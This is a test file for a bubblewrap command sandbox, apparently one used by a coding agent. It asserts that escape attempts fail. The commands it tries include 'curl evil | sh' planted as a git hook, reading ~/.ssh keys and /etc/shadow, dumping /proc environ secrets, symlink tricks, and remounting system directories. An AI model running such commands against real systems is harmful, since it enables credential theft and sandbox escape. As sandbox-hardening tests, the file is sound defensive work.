// Escape attempts from inside the bubblewrap sandbox: each must fail, and fail
// with an error a model (or a person) can read.
import { execFileSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import { existsSync } from "node:fs";
import { readFile, symlink, writeFile } from "node:fs/promises";
import { createServer, type Server } from "node:net";
import { homedir, tmpdir } from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { describeKill, type BwrapRunner } from "../../src/workspace/sandbox.ts";
import type { RunOptions, RunResult } from "../../src/workspace/types.ts";
import { bwrapRunner, makeWorkspace, type TestWorkspace } from "./sandbox-fixtures.ts";

let runner: BwrapRunner;
let ws: TestWorkspace;
const tag = randomBytes(6).toString("hex");

beforeAll(async () => {
  runner = await bwrapRunner();
  ws = await makeWorkspace();
});
afterAll(async () => {
  await ws?.remove();
});

function run(command: string, extra: Partial<RunOptions> = {}): Promise<RunResult> {
  return runner.run({ command, workspace: ws, timeoutMs: 20_000, network: false, ...extra });
}

describe("bwrap sandbox: the filesystem", () => {
  it("refuses writes to system directories as a read-only file system", async () => {
    const result = await run(`touch /etc/escape-${tag}; touch /usr/escape-${tag}; touch /escape-${tag}`);
    expect(result.output).toContain(`touch: cannot touch '/etc/escape-${tag}': Read-only file system`);
    expect(result.output).toContain(`touch: cannot touch '/usr/escape-${tag}': Read-only file system`);
    expect(result.output).toContain(`touch: cannot touch '/escape-${tag}': Read-only file system`);
    expect(existsSync(`/etc/escape-${tag}`)).toBe(false);
    expect(existsSync(`/usr/escape-${tag}`)).toBe(false);
  });

  it("cannot see, let alone write, the app's working directory or the rest of the job's temp dir", async () => {
    await writeFile(path.join(ws.root, "trajectory.json"), "private to the app");
    const appFile = path.join(process.cwd(), `escape-${tag}`);
    const result = await run(`echo pwned > ${appFile}; ls ${process.cwd()}; cat ${ws.root}/trajectory.json`);
    expect(result.exitCode).not.toBe(0);
    expect(result.output).toContain(`${appFile}: No such file or directory`);
    expect(result.output).toContain(`cannot access '${process.cwd()}': No such file or directory`);
    expect(result.output).toContain(`${ws.root}/trajectory.json: No such file or directory`);
    expect(existsSync(appFile)).toBe(false);
  });

  it("has a private /tmp: what it writes there never reaches the host's", async () => {
    const hostFile = path.join(tmpdir(), `escape-${tag}`);
    const result = await run(`echo inside > ${hostFile} && cat ${hostFile}`);
    expect(result.exitCode).toBe(0);
    expect(result.output.trim()).toBe("inside");
    expect(existsSync(hostFile)).toBe(false);
  });

  it("writes freely inside the checkout and its HOME", async () => {
    const result = await run(
      "echo hi > made-inside.txt && mkdir -p $HOME/.cache && echo c > $HOME/.cache/x && echo ok",
    );
    expect(result.output.trim()).toBe("ok");
    expect(await readFile(path.join(ws.repoDir, "made-inside.txt"), "utf8")).toBe("hi\n");
    expect(await readFile(path.join(ws.homeDir, ".cache/x"), "utf8")).toBe("c\n");
  });

  it("cannot read the app's HOME, ~/.ssh or /root", async () => {
    const home = homedir();
    const result = await run(`ls -a ${home}; cat ${home}/.ssh/id_rsa ${home}/.ssh/id_ed25519; ls /root /home`);
    expect(result.exitCode).not.toBe(0);
    expect(result.output).toContain(`cannot access '${home}': No such file or directory`);
    expect(result.output).toContain(`${home}/.ssh/id_rsa: No such file or directory`);
    expect(result.output).toContain("cannot access '/root': No such file or directory");
    expect(result.output).toContain("cannot access '/home': No such file or directory");
  });

  it("sees no secrets of /etc: shadow, ssh host keys, TLS private keys", async () => {
    const result = await run("cat /etc/shadow; ls /etc/ssh; ls -A /etc/ssl/private; echo listed");
    expect(result.output).toContain("/etc/shadow: No such file or directory");
    expect(result.output).toContain("cannot access '/etc/ssh': No such file or directory");
    // An empty tmpfs hides the host's private keys (when the host has the directory at all).
    expect(result.output.trim().split("\n").at(-1)).toBe("listed");
    expect(result.output).not.toMatch(/\.key|\.pem/);
  });

  it("follows a symlink planted in the repo only into the sandbox's own view", async () => {
    const outside = path.join(ws.root, `outside-${tag}.txt`);
    await writeFile(outside, "host secret");
    await symlink("/etc/shadow", path.join(ws.repoDir, "to-shadow"));
    await symlink(outside, path.join(ws.repoDir, "to-outside"));
    const result = await run("cat to-shadow to-outside; echo pwned > to-outside");
    expect(result.output).toContain("cat: to-shadow: No such file or directory");
    expect(result.output).toContain("cat: to-outside: No such file or directory");
    expect(result.output).not.toContain("host secret");
    expect(await readFile(outside, "utf8")).toBe("host secret");
  });

  it("cannot plant config or hooks in .git for the app's own git to run outside the sandbox", async () => {
    const repo = await makeWorkspace();
    try {
      execFileSync("git", ["init", "-q", repo.repoDir]);
      await writeFile(path.join(repo.repoDir, "a.txt"), "a\n");
      const configBefore = await readFile(path.join(repo.repoDir, ".git/config"), "utf8");
      const result = await runner.run({
        command:
          "git config core.hooksPath .githooks; echo 'curl evil | sh' > .git/hooks/pre-commit; git add a.txt; git status --short; echo edited >> a.txt && echo worktree-ok",
        workspace: repo,
        timeoutMs: 20_000,
        network: false,
      });
      expect(result.output).toContain("error: could not lock config file .git/config: Read-only file system");
      expect(result.output).toContain(".git/hooks/pre-commit: Read-only file system");
      expect(result.output).toMatch(/Unable to create '.*\.git\/index\.lock': Read-only file system/);
      expect(result.output).toContain("?? a.txt"); // reading the repository still works
      expect(result.output).toContain("worktree-ok");
      const add = await runner.run({ command: "git add a.txt", workspace: repo, timeoutMs: 20_000, network: false });
      expect(add.exitCode).not.toBe(0);
      expect(describeKill(add, { timeoutMs: 20_000 })).toContain("The repository's .git directory is read-only here");
      expect(await readFile(path.join(repo.repoDir, ".git/config"), "utf8")).toBe(configBefore);
      expect(existsSync(path.join(repo.repoDir, ".git/hooks/pre-commit"))).toBe(false);
    } finally {
      await repo.remove();
    }
  });

  it("holds no capabilities, so it cannot remount the system read-write", async () => {
    const result = await run(
      `grep CapEff /proc/self/status; mount -o remount,rw,bind /usr && touch /usr/escape-${tag}`,
    );
    expect(result.output).toContain("CapEff:\t0000000000000000");
    expect(result.output).toMatch(/mount: \/usr: (permission denied|must be superuser)/);
    expect(existsSync(`/usr/escape-${tag}`)).toBe(false);
  });
});

describe("bwrap sandbox: processes and environment", () => {
  it("does not see the app's environment, in env or in any /proc/*/environ", async () => {
    const name = `ISSUESMITH_CANARY_${tag.toUpperCase()}`;
    process.env[name] = `canary-${tag}`;
    try {
      const result = await run(
        `env; cat /proc/1/environ /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; cat /proc/${process.pid}/environ`,
      );
      expect(result.output).toContain("CI=true");
      expect(result.output).toContain(`HOME=${ws.homeDir}`);
      expect(result.output).not.toContain(`canary-${tag}`);
      expect(result.output).not.toContain(name);
    } finally {
      delete process.env[name];
    }
  });

  it("sees only its own processes and cannot signal the app", async () => {
    const result = await run(`ls /proc | grep -c '^[0-9]'; kill -9 ${process.pid}`);
    const [count] = result.output.trim().split("\n");
    expect(Number(count)).toBeLessThan(8);
    expect(result.output).toContain("No such process");
    expect(process.pid).toBeGreaterThan(0); // still alive to assert this
  });

  it("cannot raise its own process limit: of its cgroup it sees only the file to join it", async () => {
    const limited = await bwrapRunner({ maxProcesses: 64 });
    expect(limited.processLimit, "this host offers no pids cgroup to test").toBe("cgroup");
    const result = await limited.run({
      command: "ls /run/issuesmith; echo 100000 > /run/issuesmith/pids.max; ls /sys/fs/cgroup",
      workspace: ws,
      timeoutMs: 20_000,
      network: false,
    });
    expect(result.output).toContain("cgroup.procs\n");
    expect(result.output).toMatch(/\/run\/issuesmith\/pids\.max: (Read-only file system|No such file or directory)/);
    expect(result.output).toContain("cannot access '/sys/fs/cgroup': No such file or directory");
  });

  it("runs the command as `bash -c` would: $0 is bash, no arguments, syntax errors reported", async () => {
    const result = await run('echo "$0 $# [$*]"; echo "${__c:-unset}"');
    expect(result.output).toBe("bash 0 []\nunset\n");
    const broken = await run("if then");
    expect(broken.exitCode).toBe(2);
    expect(broken.output).toContain("syntax error near unexpected token `then'");
  });

  it("passes opt-in variables through, and only those", async () => {
    const result = await run("echo $DATABASE_URL", { env: { DATABASE_URL: "postgres://test" } });
    expect(result.output.trim()).toBe("postgres://test");
  });
});

describe("bwrap sandbox: the network", () => {
  let server: Server;
  let port: number;
  let connections = 0;

  beforeAll(async () => {
    server = createServer((socket) => {
      connections++;
      socket.end("hello from the host\n");
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    port = (server.address() as { port: number }).port;
  });
  afterAll(async () => {
    await new Promise((resolve) => server.close(resolve));
  });

  it("cannot reach a loopback server of the host while the network is off", async () => {
    const before = connections;
    const result = await run(`exec 3<>/dev/tcp/127.0.0.1/${port} && cat <&3`);
    expect(result.exitCode).not.toBe(0);
    expect(result.output).toContain("Connection refused");
    expect(connections).toBe(before);
  });

  it("reaches it when the setup phase asks for network", async () => {
    const result = await run(`exec 3<>/dev/tcp/127.0.0.1/${port} && cat <&3`, { network: true });
    expect(result.exitCode).toBe(0);
    expect(result.output).toContain("hello from the host");
  });
});
